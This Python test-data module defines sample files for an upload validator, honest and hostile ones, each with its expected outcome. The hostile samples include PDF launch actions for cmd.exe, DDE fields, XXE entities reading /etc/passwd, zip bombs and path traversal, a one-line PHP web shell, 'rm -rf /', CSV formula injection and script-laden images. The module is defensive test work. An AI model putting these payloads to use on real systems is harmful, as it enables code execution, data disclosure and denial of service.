# data table
# ruff: noqa: E501
"""Files made to deceive, break or overload, and honest ones beside them: what each is, and what must happen."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Sample:
    """`outcome` is the kind it is stored as, or words of the refusal (starting with !)."""

    label: str
    name: str
    make: Callable[[], bytes]
    outcome: str


def odd(photograph: bytes) -> bytes:
    """A comment segment that happens to read like the beginning of a page template."""
    return photograph[:2] + b"\xff\xfe\x00\x04<%" + photograph[2:]


def picture(form: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 128).save(out, form, **options)
    return out.getvalue()


def flood(width: int, height: int) -> bytes:
    """A PNG that says it is huge, with hardly any data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def pdf(change: Callable[[PdfWriter], None] | None = None, **write: Any) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **extra: str) -> Callable[[PdfWriter], None]:
    """An open action of the catalogue."""

    def change(writer: PdfWriter) -> None:
        entries = {NameObject("/S"): NameObject(kind)} | {
            NameObject(f"/{key}"): TextStringObject(value) for key, value in extra.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return change


def named_script(writer: PdfWriter) -> None:
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(script)])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def page_action(writer: PdfWriter) -> None:
    hidden = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    extra = DictionaryObject({NameObject("/O"): writer._add_object(hidden)})
    writer.pages[0][NameObject("/AA")] = extra


def next_action(writer: PdfWriter) -> None:
    hidden = DictionaryObject({NameObject("/S"): NameObject("/Launch")})
    first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/Next"): ArrayObject([hidden])})
    writer.root_object[NameObject("/OpenAction")] = first


def container(parts: dict[str, str | bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(kind: str = WORD, extra: dict[str, str | bytes] | None = None, more_types: str = "") -> bytes:
    override = f'<Override PartName="/main.xml" ContentType="{kind}"/>'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f"{TYPES}{override}{more_types}</Types>",
        "main.xml": "<a/>",
    }
    return container(parts | (extra or {}))


def relation(kind: str, target: str, mode: str = "External") -> dict[str, str | bytes]:
    line = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"_rels/main.xml.rels": f'<Relationships xmlns="{RELS}">{line}</Relationships>'}


def special(name: str, attributes: int = 0, flags: int = 0) -> bytes:
    """An office container with one odd member."""
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("placeholder")
        info.filename = name
        info.external_attr = attributes << 16
        archive.writestr(info, "target")
    content = out.getvalue()
    if flags:
        at = content.rfind(b"PK\x01\x02")
        content = content[: at + 8] + struct.pack("<H", flags) + content[at + 10 :]
    return content


def doubled() -> bytes:
    first = office(extra={"x1.xml": "<a/>", "x2.xml": "<b/>"})
    return first.replace(b"x2.xml", b"x1.xml")


def lying_size() -> bytes:
    """A member that unfolds to far more than the directory says."""
    content = office(extra={"media/x.dat": b"\0" * 40_000_000})
    return content.replace(struct.pack("<I", 40_000_000), struct.pack("<I", 900_000))


def ole(*names: str) -> bytes:
    """The old container: a header sector and directory entries of the given names."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    entries = b""
    for name in ("Root Entry", *names):
        raw = (name + "\0").encode("utf-16-le")
        entries += raw.ljust(64, b"\0") + struct.pack("<H", len(raw)) + bytes([5 if name == "Root Entry" else 2])
        entries += b"\0" * (128 - 67)
    return head + entries.ljust(1024, b"\0")


def box(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def film(brand: bytes = b"isom", tail: bytes = b"") -> bytes:
    return box(b"ftyp", brand + b"\0\0\0\0" + brand) + box(b"moov", b"\0" * 50) + box(b"mdat", b"\0" * 200) + tail


def wav(stated: int | None = None) -> bytes:
    body = (
        b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 80) + b"\0" * 80
    )
    return b"RIFF" + struct.pack("<I", len(body) if stated is None else stated) + body


def silk(lead: bytes = b"") -> bytes:
    """A voice message of WeChat: two frames and the end mark."""
    return lead + b"#!SILK_V3" + struct.pack("<H", 5) + b"\xe6" * 5 + struct.pack("<H", 7) + b"\xe7" * 7 + b"\xff\xff"


def aac(frames: int = 3) -> bytes:
    """ADTS frames of 20 bytes."""
    return (b"\xff\xf1\x50\x80\x02\x9f\xfc" + b"\x21" * 13) * frames


def ofd(
    root: str = "<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016' DocType='OFD'/>",
    extra: dict[str, str | bytes] | None = None,
) -> bytes:
    return container({"OFD.xml": root, "Doc_0/Document.xml": "<x/>"} | (extra or {}))


def mp3(tag: bool = False) -> bytes:
    frame = b"\xff\xfb\x90\x00" + b"\0" * 413
    return (b"ID3\x03\0\0\0\0\0\x0a" + b"\0" * 10 if tag else b"") + frame * 4


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
OUTSIDE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
FIELD = '<w:p xmlns:w="x"><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText></w:p>'
PARTED = "<w:p>" + "".join(f"<w:instrText>{letter}</w:instrText>" for letter in "DDEAUTO cmd") + "</w:p>"


def nested(depth: int) -> bytes:
    content = b"x"
    for level in range(depth):
        content = container({f"{level}.zip": content})
    return content


SAMPLES = [
    # honest files
    Sample("a PDF", "通知.pdf", pdf, "pdf"),
    Sample("a PDF that opens on a page", "a.pdf", lambda: pdf(action("/GoTo")), "pdf"),
    Sample("a PDF with a link to a site", "a.pdf", lambda: pdf(action("/URI", URI="https://gz.gov.cn")), "pdf"),
    Sample("a photograph", "现场.JPG", lambda: picture("JPEG"), "jpg"),
    Sample("a progressive photograph", "a.jpeg", lambda: picture("JPEG", progressive=True), "jpg"),
    Sample("a photograph in CMYK", "a.jpg", lambda: picture("JPEG", mode="CMYK"), "jpg"),
    Sample("a screenshot", "微信截图.png", lambda: picture("PNG"), "png"),
    Sample("a photograph with two odd bytes by chance", "a.jpg", lambda: odd(picture("JPEG")), "jpg"),
    Sample("a picture as WebP", "a.webp", lambda: picture("WEBP"), "webp"),
    Sample("a photograph with a film after it", "a.jpg", lambda: picture("JPEG") + film(), "jpg"),
    Sample("a Word file", "合同.docx", office, "docx"),
    Sample("a workbook", "工资表.xlsx", lambda: office(EXCEL), "xlsx"),
    Sample("slides", "a.pptx", lambda: office(SLIDES), "pptx"),
    Sample("a Word file with a hyperlink", "a.docx", lambda: office(extra=relation("hyperlink", "https://gz.gov.cn")), "docx"),
    Sample("a workbook with printer settings", "a.xlsx",
           lambda: office(EXCEL, {"xl/printerSettings/printerSettings1.bin": b"x"}), "xlsx"),
    Sample("an old Word file", "a.doc", lambda: ole("WordDocument", "1Table"), "doc"),
    Sample("an old workbook", "a.xls", lambda: ole("Workbook"), "xls"),
    Sample("an older workbook", "a.xls", lambda: ole("Book"), "xls"),
    Sample("text in UTF-8", "说明.txt", lambda: "拖欠工资".encode(), "txt"),
    Sample("text with a byte order mark", "a.txt", lambda: "拖欠".encode("utf-8-sig"), "txt"),
    Sample("text in GBK", "a.txt", lambda: "拖欠工资三个月".encode("gbk"), "txt"),
    Sample("text in UTF-16", "a.txt", lambda: "拖欠工资".encode("utf-16"), "txt"),
    Sample("a table as CSV", "a.csv", lambda: "姓名,金额\n张三,100".encode(), "csv"),
    Sample("formulas in a CSV stay text", "a.csv", lambda: b"=cmd|' /C calc'!A0,+1,-1,@SUM(1),\t2,\r3", "csv"),
    Sample("mathematical text", "a.txt", lambda: b"1 < 2 and x <y> z", "txt"),
    Sample("sound as MP3", "录音.mp3", mp3, "mp3"),
    Sample("sound as MP3 with a tag", "a.mp3", lambda: mp3(tag=True), "mp3"),
    Sample("sound as WAV", "a.wav", wav, "wav"),
    Sample("sound of a recorder that was switched off", "a.wav", lambda: wav(0xFFFFFFFF), "wav"),
    Sample("sound of an old telephone", "a.amr", lambda: b"#!AMR\n" + b"\x3c" * 64, "amr"),
    Sample("a voice message of WeChat", "msg.amr", silk, "silk"),
    Sample("a voice message of WeChat with its leading byte", "msg.amr", lambda: silk(b"\x02"), "silk"),
    Sample("sound as AAC", "a.aac", aac, "aac"),
    Sample("sound as Opus", "a.opus", lambda: b"OggS\0\x02" + b"\0" * 40, "ogg"),
    Sample("a receipt as OFD", "发票.ofd", ofd, "ofd"),
    Sample("a statement locked against changes alone", "流水.pdf",
           lambda: pdf(lambda w: w.encrypt("", "owner", algorithm="RC4-128")), "pdf"),
    Sample("a statement locked against changes alone, in AES", "流水.pdf",
           lambda: pdf(lambda w: w.encrypt("", "owner", algorithm="AES-256")), "pdf"),
    Sample("a PDF with a mark in front", "a.pdf", lambda: b"\xef\xbb\xbf" + pdf(), "pdf"),
    Sample("a PDF with an empty line in front", "a.pdf", lambda: b"\r\n" + pdf(), "pdf"),
    Sample("a PDF with a line in front", "a.pdf", lambda: b"Content-Type: application/pdf\r\n\r\n" + pdf(), "pdf"),
    Sample("a chat with pictures", "聊天.txt", lambda: '张工：<img src="a.jpg"> 明天发工资'.encode(), "txt"),
    Sample("an attendance log", "考勤.txt", lambda: "考勤率<%出勤 95% 迟到<%5".encode(), "txt"),
    Sample("a text that begins like a bitmap", "a.txt", lambda: b"BMW 4S\n", "txt"),
    Sample("a film in HEVC", "a.mp4", lambda: film(b"hvc1"), "mp4"),
    Sample("a film told by its other brands", "a.mp4",
           lambda: film(b"xxxx").replace(b"\0\0\0\0xxxx", b"\0\0\0\0isom"), "mp4"),
    Sample("sound as M4A", "a.m4a", lambda: film(b"M4A "), "m4a"),
    Sample("a film", "现场.mp4", film, "mp4"),
    Sample("a film of a telephone", "a.3gp", lambda: film(b"3gp4"), "mp4"),
    Sample("a film of an iPhone", "IMG_1.MOV", lambda: film(b"qt  "), "mov"),
    # empty, cut off, damaged
    Sample("nothing", "a.pdf", lambda: b"", "!0 字节"),
    Sample("a PDF cut off", "a.pdf", lambda: pdf()[:120], "!损坏"),
    Sample("a PDF head with rubbish", "a.pdf", lambda: b"%PDF-1.7\n" + b"rubbish " * 100, "!损坏"),
    Sample("a photograph cut off", "a.jpg", lambda: picture("JPEG", (800, 600))[:900], "!损坏"),
    Sample("a screenshot cut off", "a.png", lambda: picture("PNG", (800, 600))[:100], "!损坏"),
    Sample("a screenshot with a changed byte", "a.png", lambda: picture("PNG")[:45] + b"\0" + picture("PNG")[46:], "!损坏"),
    Sample("a WebP cut off", "a.webp", lambda: picture("WEBP")[:30], "!损坏"),
    Sample("a Word file cut off", "a.docx", lambda: office()[:200], "!损坏"),
    Sample("a film cut off", "a.mp4", lambda: film()[:-50], "!不完整"),
    Sample("a film without a table", "a.mp4", lambda: box(b"ftyp", b"isom\0\0\0\0") + box(b"mdat", b"\0" * 9), "!不完整"),
    Sample("a film with rubbish after it", "a.mp4", lambda: film(tail=b"MZ\x90\x00 rubbish rubbish"), "!不完整"),
    Sample("a WAV that promises more", "a.wav", lambda: wav(99_999), "!不完整"),
    Sample("an MP3 tag and nothing", "a.mp3", lambda: b"ID3\x03\0\0\0\0\0\x0a" + b"\0" * 400, "!不完整"),
    # what acts by itself
    Sample("a PDF with JavaScript", "a.pdf", lambda: pdf(action("/JavaScript", JS="app.alert(1)")), "!脚本"),
    Sample("a PDF with named JavaScript", "a.pdf", lambda: pdf(named_script), "!脚本"),
    Sample("a PDF that starts a program", "a.pdf", lambda: pdf(action("/Launch", F="cmd.exe")), "!自动执行"),
    Sample("a PDF page that starts a program", "a.pdf", lambda: pdf(page_action), "!自动执行"),
    Sample("a PDF action behind another", "a.pdf", lambda: pdf(next_action), "!自动执行"),
    Sample("a PDF that imports data", "a.pdf", lambda: pdf(action("/ImportData", F="x.fdf")), "!自动执行"),
    Sample("a PDF that sends its form", "a.pdf", lambda: pdf(action("/SubmitForm", F="https://x")), "!自动执行"),
    Sample("a PDF with its name escaped", "a.pdf", lambda: pdf(action("/Launch")).replace(b"/Launch", b"/#4caunch"), "!自动执行"),
    Sample("a PDF with a file in it", "a.pdf", lambda: pdf(lambda w: w.add_attachment("x.exe", b"MZ") and None), "!附带文件"),
    Sample("a locked PDF", "a.pdf", lambda: pdf(lambda w: w.encrypt("secret", algorithm="RC4-128")), "!密码"),
    Sample("a Word file with a macro", "a.docx", lambda: office(extra={"word/vbaProject.bin": b"x"}), "!宏"),
    Sample("a macro file renamed", "a.docx",
           lambda: office("application/vnd.ms-word.document.macroEnabled.main+xml"), "!宏"),
    Sample("a macro workbook renamed", "a.xlsx",
           lambda: office("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "!宏"),
    Sample("a hidden macro type", "a.docx",
           lambda: office(more_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "!宏"),
    Sample("a macro sheet of old Excel", "a.xlsx", lambda: office(EXCEL, {"xl/macrosheets/sheet1.xml": "<a/>"}), "!宏"),
    Sample("an ActiveX control", "a.docx", lambda: office(extra={"word/activeX/activeX1.xml": "<a/>"}), "!控件"),
    Sample("an embedded program", "a.docx", lambda: office(extra={"word/embeddings/oleObject1.bin": b"MZ"}), "!嵌入"),
    Sample("a DDE field", "a.docx", lambda: office(extra={"word/document.xml": FIELD}), "!DDE"),
    Sample("a DDE field cut into letters", "a.docx", lambda: office(extra={"word/document.xml": PARTED}), "!DDE"),
    Sample("a DDE link in a workbook", "a.xlsx",
           lambda: office(EXCEL, {"xl/externalLinks/e1.xml": '<ddeLink ddeService="cmd"/>'}), "!DDE"),
    Sample("a template from outside", "a.docx",
           lambda: office(extra=relation("attachedTemplate", "https://evil.example/t.dotm")), "!外部模板"),
    Sample("an object from outside", "a.docx", lambda: office(extra=relation("oleObject", "file://x/y")), "!外部"),
    Sample("a picture from outside", "a.docx", lambda: office(extra=relation("image", "\\\\evil\\share\\x.png")), "!外部"),
    Sample("entities that explode", "a.docx", lambda: office(extra={"word/document.xml": LAUGHS}), "!实体"),
    Sample("an entity from the disk", "a.xlsx", lambda: office(EXCEL, {"xl/workbook.xml": OUTSIDE}), "!实体"),
    Sample("an entity in UTF-16", "a.docx",
           lambda: office(extra={"word/document.xml": OUTSIDE.encode("utf-16")}), "!实体"),
    Sample("an entity in the list of types", "a.docx",
           lambda: container({"[Content_Types].xml": OUTSIDE}), "!内部结构"),
    Sample("an old Word file with a macro", "a.doc", lambda: ole("WordDocument", "Macros", "_VBA_PROJECT"), "!宏"),
    Sample("an old workbook with a macro", "a.xls", lambda: ole("Workbook", "_VBA_PROJECT_CUR"), "!宏"),
    Sample("an old file with an object in it", "a.doc", lambda: ole("WordDocument", "ObjectPool"), "!嵌入"),
    Sample("a locked workbook", "a.xlsx", lambda: ole("EncryptedPackage", "EncryptionInfo"), "!密码"),
    Sample("an installer", "a.doc", lambda: ole("SummaryInformation", "!_Tables"), "!不是可以识别"),
    # archives and bombs
    Sample("an archive", "a.zip", lambda: container({"a.txt": "x"}), "!压缩包"),
    Sample("an empty archive", "a.docx", lambda: container({}), "!压缩包"),
    Sample("an archive named docx", "a.docx", lambda: container({"a.txt": "x"}), "!压缩包"),
    Sample("twenty archives in each other", "a.zip", lambda: nested(20), "!压缩包"),
    Sample("an archive in a Word file", "a.docx", lambda: office(extra={"word/x.zip": container({"a": "b"})}), "!压缩包"),
    Sample("a bomb", "a.docx", lambda: office(extra={"word/media/x.dat": b"\0" * 60_000_000}), "!异常庞大"),
    Sample("a bomb that hides its size", "a.docx", lying_size, "!损坏"),
    Sample("too many members", "a.docx", lambda: office(extra={f"m/{n}": "" for n in range(5_100)}), "!条目过多"),
    Sample("a way out of the folder", "a.docx", lambda: special("../../etc/passwd"), "!路径"),
    Sample("a way out by backslash", "a.docx", lambda: special("..\\..\\x"), "!路径"),
    Sample("a path from the root", "a.docx", lambda: special("/etc/passwd"), "!路径"),
    Sample("a path on a drive", "a.docx", lambda: special("C:x"), "!路径"),
    Sample("the same name twice", "a.docx", doubled, "!路径"),
    Sample("a symbolic link", "a.docx", lambda: special("link", 0o120777), "!链接"),
    Sample("a locked member", "a.docx", lambda: special("x", flags=1), "!加密"),
    Sample("two kinds at once", "a.docx",
           lambda: office(more_types=f'<Override PartName="/x.xml" ContentType="{EXCEL}"/>'), "!不是可以识别"),
    Sample("RAR", "a.rar", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 20, "!压缩包（RAR）"),
    Sample("7z", "a.7z", lambda: b"7z\xbc\xaf\x27\x1c\0\0", "!压缩包（7z）"),
    Sample("gzip", "a.txt", lambda: zlib.compress(b"x" * 100, wbits=31), "!不接受"),
    # disguises
    Sample("a web page", "a.html", lambda: b"<html><body>x</body></html>", "!网页"),
    Sample("a web page named jpg", "a.jpg", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "!网页"),
    Sample("a web page after blanks", "a.txt", lambda: b"  \n\t <ScRiPt>alert(1)</script>", "!网页"),
    Sample("a web page in UTF-16", "a.txt", lambda: "<html><script>x</script>".encode("utf-16"), "!网页"),
    Sample("a drawing with a script", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "!SVG"),
    Sample("a drawing named png", "a.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "!SVG"),
    Sample("XML that reads the disk", "a.xml", lambda: OUTSIDE.encode(), "!XML"),
    Sample("XML that explodes", "a.txt", lambda: LAUGHS.encode(), "!XML"),
    Sample("PHP in a text", "a.txt", lambda: b"<?php system($_GET[0]); ?>", "!网页"),
    Sample("a picture and a web page", "a.gif", lambda: b"GIF89a=1;<script>alert(1)</script>", "!网页"),
    Sample("a GIF", "a.gif", lambda: picture("GIF"), "!不接受 GIF 图片"),
    Sample("a BMP", "a.jpg", lambda: picture("BMP"), "!不接受 BMP 图片"),
    Sample("a TIFF", "扫描.tif", lambda: picture("TIFF"), "!不接受 TIFF 图片"),
    Sample("a picture with an event in a text", "a.txt", lambda: b"<img src=x onerror=alert(1)>", "!网页"),
    Sample("a page template", "a.txt", lambda: b"<%= system('x') %>", "!网页"),
    Sample("a page template with a word", "a.txt", lambda: b"<% if x %>", "!网页"),
    Sample("an OFD that is none", "a.ofd", lambda: ofd("<x/>"), "!OFD"),
    Sample("an OFD with a program", "a.ofd", lambda: ofd(extra={"Doc_0/Attachs/a.exe": b"MZ"}), "!嵌入的程序"),
    Sample("an OFD with entities", "a.ofd", lambda: ofd(extra={"Doc_0/Pages/x.xml": LAUGHS}), "!实体"),
    Sample("a film of Windows", "a.wmv", lambda: bytes.fromhex("3026b2758e66cf11") + b"\0" * 30, "!WMV"),
    Sample("sound as FLAC", "a.flac", lambda: b"fLaC" + b"\0" * 30, "!不接受 FLAC 录音"),
    Sample("a photograph with a page in it", "a.jpg", lambda: picture("JPEG", comment=b"<script>alert(1)</script>"), "!夹带"),
    Sample("a PDF behind other bytes", "a.pdf", lambda: b"var a=1;//\n" + pdf(), "!内容"),
    Sample("a PDF and a script", "a.pdf", lambda: b"%PDF-1.7\n<script>alert(1)</script>" + pdf(), "!夹带"),
    Sample("a PDF and an archive", "a.pdf", lambda: pdf() + container({"a": "b"}), "!末尾藏有"),
    Sample("a photograph and an archive", "a.jpg", lambda: picture("JPEG") + container({"a": "b"}), "!末尾藏有"),
    Sample("a film and an archive", "a.mp4", lambda: film() + container({"a": "b"}), "!末尾藏有"),
    Sample("a program", "工资表.pdf", lambda: b"MZ\x90\0" + b"\0" * 100, "!程序"),
    Sample("a program for Linux", "a", lambda: b"\x7fELF\x02" + b"\0" * 60, "!程序"),
    Sample("a shell script", "a.txt", lambda: b"#!/bin/sh\nrm -rf /", "!程序"),
    Sample("RTF", "a.doc", lambda: b"{\\rtf1 x}", "!RTF"),
    Sample("a Windows link", "a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "!程序"),
    Sample("the test virus", "a.txt", lambda: EICAR, "!病毒"),
    Sample("a batch file becomes text", "run.bat", lambda: b"@echo off", "txt"),
    Sample("unknown bytes", "a.bin", lambda: bytes(range(256)) * 4, "!不接受"),
    Sample("text with control characters", "a.txt", lambda: b"abc\x1b[2Jdef", "!无法识别"),
    Sample("bytes that are no text", "a.txt", lambda: b"\x81\xff\xfe\x80" * 10, "!无法识别"),
    Sample("an HEIC photograph", "IMG.HEIC", lambda: box(b"ftyp", b"heic\0\0\0\0mif1") + box(b"meta", b"x"), "!HEIC"),
    # floods
    Sample("a pixel flood", "a.png", lambda: flood(50_000, 50_000), "!尺寸过大"),
    Sample("a pixel flood past counting", "a.png", lambda: flood(2**31 - 1, 2**31 - 1), "!尺寸过大"),
    Sample("a picture of nothing", "a.png", lambda: flood(0, 0), "!损坏"),
    Sample("a long thin picture", "a.png", lambda: flood(65_000_000, 1), "!尺寸过大"),
]  # fmt: skip

NAMES = [
    ("../../etc/passwd", "passwd.txt"),
    ("..\\..\\windows\\system.ini", "system.ini.txt"),
    ("C:\\fakepath\\工资.txt", "工资.txt"),
    ("工资\x00.exe", "工资.exe.txt"),
    ("exe\u202egnp.txt", "exegnp.txt"),
    ("a\u200bb\ufeff.txt", "ab.txt"),
    ("CON", "文件CON.txt"),
    ("con.txt", "文件con.txt"),
    ("LPT1.pdf", "文件LPT1.txt"),
    ("a\nb\r\n.txt", "ab.txt"),
    ("", "文件.txt"),
    ("...", "文件.txt"),
    (".htaccess", "htaccess.txt"),
    ("  a  b .txt ", "a b.txt"),
    ("😀合同😀.txt", "😀合同😀.txt"),
    ('a<b>:"c|d?e*.txt', "abcde.txt"),
    ("照片.JPG", "照片.txt"),
    ("run.bat", "run.bat.txt"),
    ("a.tar.gz", "a.tar.gz.txt"),
    ("x" * 300 + ".txt", "x" * 146 + ".txt"),
    ("lone\ud800.txt", "lone.txt"),
]
